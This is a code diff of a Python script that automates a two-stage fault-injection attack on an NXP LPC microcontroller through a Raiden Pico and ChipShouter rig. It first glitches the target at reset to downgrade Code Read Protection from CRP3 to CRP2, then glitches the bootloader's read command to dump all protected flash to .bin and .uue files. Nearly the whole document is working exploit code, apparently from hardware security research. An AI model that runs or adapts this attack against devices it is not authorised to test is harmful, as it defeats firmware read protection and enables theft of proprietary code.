@@ -12,22 +12,39 @@ This script automatically performs both stages:
 4. Success = full memory dump despite CRP protection
 """
 
+import binascii
 import serial
 import time
 import csv
 import os
+import queue
 from datetime import datetime
 import sys
+import threading
+
+from chipshouter_io import read_reply, send_batch, set_latency_timer
 
 SERIAL_PORT = '/dev/ttyACM0'
 BAUD_RATE = 115200
 TIMEOUT = 2.0
 
+# Upper bound on the R 0 516096 response: UUE-encoded flash plus checksums
+READ_RESPONSE_MAX = 516096 * 4 // 3 + 1024
+
+# Per-attempt commands, encoded once rather than on every attempt
+ARM_ON = b"ARM ON\r\n"
+SYNC_CMD = b"TARGET SYNC 115200 12000 10\r\n"
+READ_CMD = b'TARGET SEND "R 0 516096"\r\n'
+
+# Target's echo of the R command (the Pico's own "TARGET SEND "R ..."" echo
+# has a quote after the command, not CR, so it can't match)
+READ_ECHO = b'R 0 516096\r'
+
 def uu_decode_line(line):
-    """Decode a single UUEncoded line to bytes"""
-    if not line or line[0] == '`' or line[0] == ' ':
+    """Decode a single UUEncoded line (bytes) to bytes, tolerating malformed lines"""
+    if not line or line[0] in b'` ':
         return b''
-    length = (ord(line[0]) - 32) & 63
+    length = (line[0] - 32) & 63
     if length == 0:
         return b''
 
@@ -38,8 +55,8 @@ def uu_decode_line(line):
     while len(data) < length and i < len(line):
         chunk = line[i:i+4]
         if len(chunk) < 4:
-            chunk = chunk + ' ' * (4 - len(chunk))
-        vals = [(ord(c) - 32) & 63 for c in chunk]
+            chunk = chunk + b' ' * (4 - len(chunk))
+        vals = [(c - 32) & 63 for c in chunk]
         b1 = (vals[0] << 2) | (vals[1] >> 4)
         b2 = ((vals[1] & 0xF) << 4) | (vals[2] >> 2)
         b3 = ((vals[2] & 0x3) << 6) | vals[3]
@@ -49,32 +66,30 @@ def uu_decode_line(line):
     return data[:length]
 
 def decode_uue_data(uue_lines):
-    """Decode UUEncoded lines to binary data"""
+    """Decode UUEncoded lines (bytes, checksums already removed) to binary data"""
     binary_data = bytearray()
     for line in uue_lines:
-        line = line.strip()
-        if not line or line.isdigit():  # Skip empty lines and checksums
-            continue
-        decoded = uu_decode_line(line)
-        binary_data.extend(decoded)
+        try:
+            binary_data += binascii.a2b_uu(line)
+        except binascii.Error:
+            binary_data += uu_decode_line(line)
     return bytes(binary_data)
 
 def save_flash_dump(uue_data, timestamp):
-    """Save flash dump as both .uue and .bin files"""
+    """Save flash dump (raw bytes from the R response) as both .uue and .bin files"""
     uue_file = f"crp3_flash_dump_{timestamp}.uue"
     bin_file = f"crp3_flash_dump_{timestamp}.bin"
 
-    # Parse UUE lines from data string
-    uue_lines = uue_data.split('\n')
+    # Split the UUE lines out in C (handles \r\n, \r and \n), dropping blank
+    # lines and checksums
+    uue_lines = [line for line in (l.strip() for l in uue_data.splitlines())
+                 if line and not line.isdigit()]
 
     # Save .uue file
-    with open(uue_file, 'w') as f:
-        f.write(f"begin 644 {bin_file}\n")
-        for line in uue_lines:
-            line = line.strip()
-            if line and not line.isdigit():  # Skip checksums
-                f.write(line + '\n')
-        f.write("`\nend\n")
+    with open(uue_file, 'wb') as f:
+        f.write(f"begin 644 {bin_file}\n".encode())
+        f.write(b"\n".join(uue_lines) + b"\n")
+        f.write(b"`\nend\n")
 
     # Decode and save .bin file
     binary_data = decode_uue_data(uue_lines)
@@ -83,47 +98,85 @@ def save_flash_dump(uue_data, timestamp):
 
     return uue_file, bin_file, len(binary_data)
 
-def send_command(ser, cmd, wait_time=0.2):
-    """Send command to Raiden Pico"""
-    if ser.in_waiting > 0:
-        ser.read(ser.in_waiting)
-    ser.write(f"{cmd}\r\n".encode())
-    time.sleep(wait_time)
-    response = ""
-    if ser.in_waiting > 0:
-        response = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-    return response
-
-def wait_for_response(ser, expected_text, timeout=5.0):
-    """Wait for specific text in serial response"""
-    start_time = time.time()
-    full_response = ""
-    while time.time() - start_time < timeout:
-        if ser.in_waiting > 0:
-            chunk = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            full_response += chunk
-            if expected_text in full_response:
-                return True, full_response
-        time.sleep(0.01)
-    return False, full_response
+def send_command(ser, cmd, timeout=1.0):
+    """Send command to Raiden Pico and return its output (bytes) once it completes.
+
+    cmd is a command string, or an already encoded line such as ARM_ON.
+    """
+    return send_batch(ser, [cmd], timeout=timeout)[0]
+
+def sync_target(ser, arm=False, timeout=15.0):
+    """Send [ARM ON and] TARGET SYNC in one write; return True if the target synced.
+
+    TARGET SYNC resets the target and runs the whole ISP handshake before the
+    CLI prompts, so the prompt marks the end of the attempt: a failed sync
+    returns as soon as the firmware gives up instead of after the full timeout.
+    """
+    ser.reset_input_buffer()
+    ser.write((ARM_ON if arm else b"") + SYNC_CMD)
+    response, _ = read_reply(ser, timeout=timeout, count=2 if arm else 1)
+    return b"LPC ISP sync complete" in response
+
+# Last CSV timestamp and the second it was formatted for
+_last_ts_sec = None
+_last_ts = ''
+
+def log_timestamp():
+    """Return the CSV timestamp, formatting it at most once per second"""
+    global _last_ts_sec, _last_ts
+    now = time.time()
+    sec = int(now)
+    if sec != _last_ts_sec:
+        _last_ts_sec = sec
+        _last_ts = datetime.fromtimestamp(now).strftime('%Y-%m-%d %H:%M:%S')
+    return _last_ts
+
+def csv_writer(log, f, batch_size=64, sync_interval=5.0):
+    """Write CSV rows taken from the log queue until a None arrives.
+
+    Rows are written in batches of up to batch_size and flushed per batch;
+    the file is fsync'd at most every sync_interval seconds rather than per row.
+    """
+    writer = csv.writer(f)
+    last_sync = time.monotonic()
+    done = False
+    while not done:
+        batch = []
+        row = log.get()
+        while True:
+            if row is None:
+                done = True
+                break
+            batch.append(row)
+            if len(batch) >= batch_size:
+                break
+            try:
+                row = log.get_nowait()
+            except queue.Empty:
+                break
+        writer.writerows(batch)
+        f.flush()
+        if done or time.monotonic() - last_sync >= sync_interval:
+            os.fsync(f.fileno())
+            last_sync = time.monotonic()
 
 def setup_gpio_trigger(ser, voltage, pause_gpio, width_gpio):
     """Configure GPIO trigger for CRP3→CRP2 downgrade"""
     print("  Configuring GPIO trigger (CRP3→CRP2)...")
-    send_command(ser, f"CS VOLTAGE {voltage}", wait_time=0.5)
-    send_command(ser, f"SET PAUSE {pause_gpio}", wait_time=0.2)
-    send_command(ser, f"SET WIDTH {width_gpio}", wait_time=0.2)
-    send_command(ser, f"SET COUNT 1", wait_time=0.2)
-    send_command(ser, "TRIGGER GPIO RISING", wait_time=0.2)
+    send_batch(ser, [f"CS VOLTAGE {voltage}",
+                     f"SET PAUSE {pause_gpio}",
+                     f"SET WIDTH {width_gpio}",
+                     "SET COUNT 1",
+                     "TRIGGER GPIO RISING"])
 
 def setup_uart_trigger(ser, voltage, pause_uart, width_uart, trigger_byte):
     """Configure UART trigger for memory read bypass"""
     print(f"  Configuring UART trigger (memory read bypass, byte=0x{trigger_byte:02x})...")
-    send_command(ser, f"CS VOLTAGE {voltage}", wait_time=0.5)
-    send_command(ser, f"SET PAUSE {pause_uart}", wait_time=0.2)
-    send_command(ser, f"SET WIDTH {width_uart}", wait_time=0.2)
-    send_command(ser, f"SET COUNT 1", wait_time=0.2)
-    send_command(ser, f"TRIGGER UART {trigger_byte:02x}", wait_time=0.2)
+    send_batch(ser, [f"CS VOLTAGE {voltage}",
+                     f"SET PAUSE {pause_uart}",
+                     f"SET WIDTH {width_uart}",
+                     "SET COUNT 1",
+                     f"TRIGGER UART {trigger_byte:02x}"])
 
 def stage1_crp3_to_crp2(ser):
     """
@@ -132,14 +185,9 @@ def stage1_crp3_to_crp2(ser):
     Returns:
         bool: True if successful (bootloader now accessible)
     """
-    # Arm GPIO trigger
-    send_command(ser, "ARM ON", wait_time=0.2)
-
-    # TARGET SYNC internally resets target (triggers GPIO glitch) and attempts bootloader SYNC
-    ser.write(b"TARGET SYNC 115200 12000 10\r\n")
-    success, response = wait_for_response(ser, "LPC ISP sync complete", timeout=15.0)
-
-    return success
+    # Arm GPIO trigger, then TARGET SYNC internally resets target (triggers
+    # GPIO glitch) and attempts bootloader SYNC
+    return sync_target(ser, arm=True)
 
 def stage2_memory_read_bypass(ser):
     """
@@ -153,74 +201,47 @@ def stage2_memory_read_bypass(ser):
                  "GARBAGE" if got unexpected response
     """
     # Arm UART trigger before sending read command
-    send_command(ser, "ARM ON", wait_time=0.2)
+    send_command(ser, ARM_ON)
 
     # Send memory read command
     # This will trigger the UART glitch when the trigger byte is sent
-    ser.write(b'TARGET SEND "R 0 516096"\r\n')
-
-    # Wait for response
-    response = ""
-    start_time = time.time()
-    max_wait = 5.0
-
-    while time.time() - start_time < max_wait:
-        time.sleep(0.1)
-        if ser.in_waiting > 0:
-            chunk = ser.read(ser.in_waiting).decode('utf-8', errors='ignore')
-            response += chunk
-            # Stop if we see the prompt
-            if "> " in chunk:
-                break
+    ser.write(READ_CMD)
+
+    # Wait for the response in one read that ends at the prompt (TARGET SEND
+    # bridges the target's output, then prompts), rather than 100 ms polls
+    response, _ = read_reply(ser, timeout=5.0, size=READ_RESPONSE_MAX)
 
     # Parse result - LPC ISP returns: command echo, return code, data (if success), checksum
     # Example success: "R 0 32\r0\r\n<uuencoded data>\r\n<checksum>\r\n"
     # Example error:   "R 0 32\r19\r\n"
-
-    lines = response.replace('\r\n', '\n').replace('\r', '\n').split('\n')
-
-    # Find the return code line (first line that is just a number after command echo)
+    # The return code always sits on the line after the echo, so slice it out
+    # directly rather than scanning the whole dump
     return_code = None
-    data_lines = []
-    found_echo = False
-
-    for i, line in enumerate(lines):
-        line = line.strip()
-
-        # Skip empty lines and prompts
-        if not line or line == '>' or line.startswith('TARGET SEND'):
-            continue
-
-        # Look for command echo (starts with "R ")
-        if line.startswith('R ') and not found_echo:
-            found_echo = True
-            continue
-
-        # After echo, first number is the return code
-        if found_echo and return_code is None:
-            if line == '0':
-                return_code = 0
-            elif line == '19':
-                return_code = 19
-            elif line.isdigit():
-                return_code = int(line)
-            continue
-
-        # After return code, collect data lines (UUEncoded or checksum)
-        if return_code == 0 and line and not line == '>':
-            data_lines.append(line)
+    i = response.find(READ_ECHO)
+    if i >= 0:
+        i += len(READ_ECHO)
+        j = response.find(b'\r', i + 1)
+        if j < 0:
+            j = len(response)
+        code = response[i:j].strip()
+        if code.isdigit():
+            return_code = int(code)
 
     if return_code == 0:
         # Success! Got data
-        return "SUCCESS", "\n".join(data_lines)
+        # Keep the data block (up to the prompt) as bytes; it is split and
+        # decoded by save_flash_dump() only on success
+        start = j + 2 if response[j:j + 2] == b'\r\n' else j + 1
+        end = response.find(b'> ', start)
+        return "SUCCESS", response[start:end if end >= 0 else len(response)]
     elif return_code == 19:
         # Error 19 = command not allowed (CRP protection active)
-        return "ERROR19", ""
+        return "ERROR19", b""
     elif return_code is not None:
         # Some other error code
-        return "GARBAGE", f"Error code: {return_code}"
-    elif "No response data" in response or not response.strip():
-        return "NO_RESPONSE", ""
+        return "GARBAGE", b"Error code: %d" % return_code
+    elif b"No response data" in response or not response.strip():
+        return "NO_RESPONSE", b""
     else:
         # Got something but couldn't parse it
         return "GARBAGE", response[:200]
@@ -267,140 +288,151 @@ def main():
     # Connect
     print(f"Connecting to {SERIAL_PORT}...")
     ser = serial.Serial(SERIAL_PORT, BAUD_RATE, timeout=TIMEOUT)
+    set_latency_timer(ser)
     time.sleep(0.5)
 
     try:
         # Initial setup
         print("Initial setup...")
-        send_command(ser, "TARGET LPC", wait_time=0.2)
-        send_command(ser, "CS TRIGGER HARDWARE HIGH", wait_time=0.5)
-        send_command(ser, "CS ARM", wait_time=1.0)
+        send_command(ser, "TARGET LPC")
+        send_command(ser, "CS TRIGGER HARDWARE HIGH", timeout=3.0)
+        send_command(ser, "CS ARM", timeout=3.0)
+        time.sleep(1.0)  # Once per run: let the HV charge before the first glitch
 
         stage1_attempts = 0
         stage1_success = False
 
-        with open(csv_file, 'w', newline='', buffering=1) as f:
-            writer = csv.writer(f)
-            writer.writerow(['timestamp', 'stage', 'attempt', 'result', 'voltage', 'pause', 'width', 'trigger_byte', 'data'])
-
-            # ========== STAGE 1: CRP3→CRP2 DOWNGRADE ==========
-            print("\n" + "=" * 70)
-            print("STAGE 1: CRP3 → CRP2 DOWNGRADE (GPIO RESET TRIGGER)")
-            print("=" * 70)
-
-            setup_gpio_trigger(ser, voltage, pause_gpio, width_gpio)
-
-            while stage1_attempts < max_attempts and not stage1_success:
-                stage1_attempts += 1
-                test_start = time.time()
-
-                success = stage1_crp3_to_crp2(ser)
-
-                test_elapsed = time.time() - test_start
-                ts = datetime.now().strftime('%Y-%m-%d %H:%M:%S')
-
-                if success:
-                    stage1_success = True
-                    print(f"\n[{stage1_attempts}/{max_attempts}] ✓✓✓ STAGE 1 SUCCESS! ✓✓✓")
-                    print(f"  CRP3→CRP2 downgrade successful!")
-                    print(f"  Bootloader now accessible. Moving to Stage 2...")
-
-                    writer.writerow([ts, 'STAGE1', stage1_attempts, 'SUCCESS', voltage, pause_gpio, width_gpio, '', ''])
-                    f.flush()
+        with open(csv_file, 'w', newline='') as f:
+            csv.writer(f).writerow(['timestamp', 'stage', 'attempt', 'result', 'voltage', 'pause', 'width', 'trigger_byte', 'data'])
+
+            # Rows go through a queue to a writer thread, so the glitch loop
+            # never waits on the file
+            log = queue.Queue(maxsize=1024)
+            logger = threading.Thread(target=csv_writer, args=(log, f), daemon=True)
+            logger.start()
+
+            try:
+                # ========== STAGE 1: CRP3→CRP2 DOWNGRADE ==========
+                print("\n" + "=" * 70)
+                print("STAGE 1: CRP3 → CRP2 DOWNGRADE (GPIO RESET TRIGGER)")
+                print("=" * 70)
+
+                setup_gpio_trigger(ser, voltage, pause_gpio, width_gpio)
+
+                last_print = time.monotonic()
+                while stage1_attempts < max_attempts and not stage1_success:
+                    stage1_attempts += 1
+                    test_start = time.monotonic()
+
+                    success = stage1_crp3_to_crp2(ser)
+
+                    test_elapsed = time.monotonic() - test_start
+                    ts = log_timestamp()
+
+                    if success:
+                        stage1_success = True
+                        print(f"\n[{stage1_attempts}/{max_attempts}] ✓✓✓ STAGE 1 SUCCESS! ✓✓✓")
+                        print(f"  CRP3→CRP2 downgrade successful!")
+                        print(f"  Bootloader now accessible. Moving to Stage 2...")
+
+                        log.put([ts, 'STAGE1', stage1_attempts, 'SUCCESS', voltage, pause_gpio, width_gpio, '', ''])
+                    else:
+                        log.put([ts, 'STAGE1', stage1_attempts, 'FAIL', voltage, pause_gpio, width_gpio, '', ''])
+
+                        # Progress at most once a second, however fast attempts run
+                        now = time.monotonic()
+                        if now - last_print >= 1.0:
+                            last_print = now
+                            print(f"  [{stage1_attempts}/{max_attempts}] Stage 1 attempts...")
+
+                if not stage1_success:
+                    print(f"\n✗ Stage 1 FAILED after {max_attempts} attempts")
+                    print(f"  Unable to downgrade CRP3→CRP2")
+                    print(f"  Try different parameters or increase max_attempts")
+                    return 1
+
+                # ========== STAGE 2: MEMORY READ BYPASS ==========
+                print("\n" + "=" * 70)
+                print("STAGE 2: MEMORY READ BYPASS (UART TRIGGER)")
+                print("=" * 70)
+
+                setup_uart_trigger(ser, voltage, pause_uart, width_uart, trigger_byte)
+
+                stage2_attempts = 0
+                max_stage2_attempts = 100  # Try up to 100 times for Stage 2
+                stage2_success = False
+
+                while stage2_attempts < max_stage2_attempts and not stage2_success:
+                    stage2_attempts += 1
+                    test_start = time.monotonic()
+
+                    result, data = stage2_memory_read_bypass(ser)
+
+                    test_elapsed = time.monotonic() - test_start
+                    ts = log_timestamp()
+
+                    log.put([ts, 'STAGE2', stage2_attempts, result, voltage, pause_uart, width_uart, f'{trigger_byte:02x}', data[:100].decode('utf-8', errors='ignore')])
+
+                    if result == "SUCCESS":
+                        stage2_success = True
+                        print(f"\n[{stage2_attempts}] ✓✓✓ STAGE 2 SUCCESS! ✓✓✓")
+                        print(f"  Memory read bypass successful!")
+
+                        # Save the flash dump
+                        uue_file, bin_file, num_bytes = save_flash_dump(data, timestamp)
+                        print(f"  Flash dump saved:")
+                        print(f"    UUE: {uue_file}")
+                        print(f"    BIN: {bin_file} ({num_bytes} bytes)")
+                    elif result == "ERROR19":
+                        if stage2_attempts % 10 == 0:
+                            print(f"  [{stage2_attempts}] Still protected (error 19)...")
+                    elif result == "NO_RESPONSE":
+                        print(f"\n[{stage2_attempts}] Target crashed, re-syncing...")
+                        # Re-sync bootloader
+                        sync_target(ser)
+                        # Reconfigure UART trigger
+                        setup_uart_trigger(ser, voltage, pause_uart, width_uart, trigger_byte)
+                    elif result == "GARBAGE":
+                        print(f"\n[{stage2_attempts}] Unexpected response: {data[:80].decode('utf-8', errors='ignore')}")
+
+                # ========== FINAL RESULTS ==========
+                print("\n" + "=" * 70)
+                print("FINAL RESULTS")
+                print("=" * 70)
+                print(f"Stage 1 (CRP3→CRP2): {'✓ SUCCESS' if stage1_success else '✗ FAILED'} ({stage1_attempts} attempts)")
+                print(f"Stage 2 (Memory Read): {'✓ SUCCESS' if stage2_success else '✗ FAILED'} ({stage2_attempts} attempts)")
+                print()
+
+                if stage1_success and stage2_success:
+                    print("✓✓✓ FULL CRP3 BYPASS SUCCESSFUL! ✓✓✓")
+                    print(f"Successfully read protected memory from CRP3 device!")
+                    print(f"Parameters:")
+                    print(f"  Stage 1: V={voltage} P={pause_gpio} W={width_gpio}")
+                    print(f"  Stage 2: V={voltage} P={pause_uart} W={width_uart} Trigger=0x{trigger_byte:02x}")
+                    print(f"Flash dump:")
+                    print(f"  crp3_flash_dump_{timestamp}.bin")
+                    print(f"  crp3_flash_dump_{timestamp}.uue")
+                    return_code = 0
+                elif stage1_success:
+                    print("⚠ PARTIAL SUCCESS")
+                    print(f"  Stage 1 (CRP3→CRP2): Successful")
+                    print(f"  Stage 2 (Memory Read): Failed after {stage2_attempts} attempts")
+                    print(f"  Try different Stage 2 parameters (pause, width, trigger_byte)")
+                    return_code = 2
                 else:
-                    writer.writerow([ts, 'STAGE1', stage1_attempts, 'FAIL', voltage, pause_gpio, width_gpio, '', ''])
-                    f.flush()
-
-                    if stage1_attempts % 10 == 0:
-                        print(f"  [{stage1_attempts}/{max_attempts}] Stage 1 attempts...")
-
-            if not stage1_success:
-                print(f"\n✗ Stage 1 FAILED after {max_attempts} attempts")
-                print(f"  Unable to downgrade CRP3→CRP2")
-                print(f"  Try different parameters or increase max_attempts")
-                return 1
-
-            # ========== STAGE 2: MEMORY READ BYPASS ==========
-            print("\n" + "=" * 70)
-            print("STAGE 2: MEMORY READ BYPASS (UART TRIGGER)")
-            print("=" * 70)
-
-            setup_uart_trigger(ser, voltage, pause_uart, width_uart, trigger_byte)
-
-            stage2_attempts = 0
-            max_stage2_attempts = 100  # Try up to 100 times for Stage 2
-            stage2_success = False
-
-            while stage2_attempts < max_stage2_attempts and not stage2_success:
-                stage2_attempts += 1
-                test_start = time.time()
-
-                result, data = stage2_memory_read_bypass(ser)
-
-                test_elapsed = time.time() - test_start
-                ts = datetime.now().strftime('%Y-%m-%d %H:%M:%S')
-
-                writer.writerow([ts, 'STAGE2', stage2_attempts, result, voltage, pause_uart, width_uart, f'{trigger_byte:02x}', data[:100] if data else ''])
-                f.flush()
-
-                if result == "SUCCESS":
-                    stage2_success = True
-                    print(f"\n[{stage2_attempts}] ✓✓✓ STAGE 2 SUCCESS! ✓✓✓")
-                    print(f"  Memory read bypass successful!")
-
-                    # Save the flash dump
-                    uue_file, bin_file, num_bytes = save_flash_dump(data, timestamp)
-                    print(f"  Flash dump saved:")
-                    print(f"    UUE: {uue_file}")
-                    print(f"    BIN: {bin_file} ({num_bytes} bytes)")
-                elif result == "ERROR19":
-                    if stage2_attempts % 10 == 0:
-                        print(f"  [{stage2_attempts}] Still protected (error 19)...")
-                elif result == "NO_RESPONSE":
-                    print(f"\n[{stage2_attempts}] Target crashed, re-syncing...")
-                    # Re-sync bootloader
-                    ser.write(b"TARGET SYNC 115200 12000 10\r\n")
-                    wait_for_response(ser, "LPC ISP sync complete", timeout=15.0)
-                    # Reconfigure UART trigger
-                    setup_uart_trigger(ser, voltage, pause_uart, width_uart, trigger_byte)
-                elif result == "GARBAGE":
-                    print(f"\n[{stage2_attempts}] Unexpected response: {data[:80]}")
-
-            # ========== FINAL RESULTS ==========
-            print("\n" + "=" * 70)
-            print("FINAL RESULTS")
-            print("=" * 70)
-            print(f"Stage 1 (CRP3→CRP2): {'✓ SUCCESS' if stage1_success else '✗ FAILED'} ({stage1_attempts} attempts)")
-            print(f"Stage 2 (Memory Read): {'✓ SUCCESS' if stage2_success else '✗ FAILED'} ({stage2_attempts} attempts)")
-            print()
-
-            if stage1_success and stage2_success:
-                print("✓✓✓ FULL CRP3 BYPASS SUCCESSFUL! ✓✓✓")
-                print(f"Successfully read protected memory from CRP3 device!")
-                print(f"Parameters:")
-                print(f"  Stage 1: V={voltage} P={pause_gpio} W={width_gpio}")
-                print(f"  Stage 2: V={voltage} P={pause_uart} W={width_uart} Trigger=0x{trigger_byte:02x}")
-                print(f"Flash dump:")
-                print(f"  crp3_flash_dump_{timestamp}.bin")
-                print(f"  crp3_flash_dump_{timestamp}.uue")
-                return_code = 0
-            elif stage1_success:
-                print("⚠ PARTIAL SUCCESS")
-                print(f"  Stage 1 (CRP3→CRP2): Successful")
-                print(f"  Stage 2 (Memory Read): Failed after {stage2_attempts} attempts")
-                print(f"  Try different Stage 2 parameters (pause, width, trigger_byte)")
-                return_code = 2
-            else:
-                print("✗ ATTACK FAILED")
-                print(f"  Stage 1 (CRP3→CRP2): Failed")
-                print(f"  Cannot proceed to Stage 2 without bootloader access")
-                return_code = 1
-
-            print()
-            print(f"Results saved to: {csv_file}")
-            print("=" * 70)
-
-            return return_code
+                    print("✗ ATTACK FAILED")
+                    print(f"  Stage 1 (CRP3→CRP2): Failed")
+                    print(f"  Cannot proceed to Stage 2 without bootloader access")
+                    return_code = 1
+
+                print()
+                print(f"Results saved to: {csv_file}")
+                print("=" * 70)
+
+                return return_code
+            finally:
+                log.put(None)
+                logger.join()
 
     finally:
         ser.close()